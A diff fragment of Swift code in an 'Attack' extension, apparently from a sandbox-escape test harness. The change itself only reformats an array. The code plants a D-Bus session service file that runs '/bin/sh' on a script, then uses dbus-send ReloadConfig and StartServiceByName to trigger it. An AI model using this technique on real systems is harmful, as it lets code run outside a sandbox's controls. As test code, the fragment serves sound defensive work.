@@ -15,7 +15,9 @@ extension Attack {
         let name = "org.deskhand.Attack"
         attempt.plant("[D-BUS Service]\nName=\(name)\nExec=/bin/sh \(script)\n", in: "\(folder)/\(name).service")
         for words in [["ReloadConfig"], ["StartServiceByName", "string:\(name)", "uint32:0"]] {
-            let call = ["dbus-send", "--session", "--print-reply", "--reply-timeout=3000", "--dest=org.freedesktop.DBus", "/"]
+            let call = [
+                "dbus-send", "--session", "--print-reply", "--reply-timeout=3000", "--dest=org.freedesktop.DBus", "/",
+            ]
             try attempt.run(call + ["org.freedesktop.DBus.\(words[0])"] + words.dropFirst())
         }
         let isDone = (0..<100).contains { _ in
